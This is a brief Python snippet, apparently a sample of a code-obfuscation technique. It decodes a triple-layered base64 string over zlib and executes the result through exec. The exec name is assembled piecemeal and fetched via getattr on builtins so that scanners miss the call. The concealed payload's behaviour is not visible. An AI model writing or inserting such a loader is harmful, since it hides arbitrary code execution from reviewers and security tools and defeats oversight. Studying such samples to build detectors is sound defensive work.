# technique: triple base64 layering over zlib, decoded in a loop, with exec reached via getattr on builtins
import base64, zlib, builtins
d = 'WlVwM2JHcEZSVXQzYWtGUlFVdzRVMk4wY1VaYVpIVnJhSGcyUTB4NFJWQkhhRTFOTm0wM2IxSnpWR1pYZVdoNlIwOVplVGRrTVRGSE9EUXdVRGh6WjA1bGNtcHNLM2d3VGtJNFExUk5XbHBTVlc5bFFVUTNSV3hsWldRMFEydHplVFJ4V1hwdGNEZ3ZMMUZKZUhKWE9XbHBaMmRXV0ZKV1RqRmtaRVYzWTNwQ1dYQTBVMloxWTNKV0t5OUJialkyVGxwdWN6Um1SVkE1YldOdmRWRTlQUT09'
for _ in range(3):
    d = base64.b64decode(d)
getattr(builtins, "".join(["e", "x", "e", "c"]))(zlib.decompress(d))
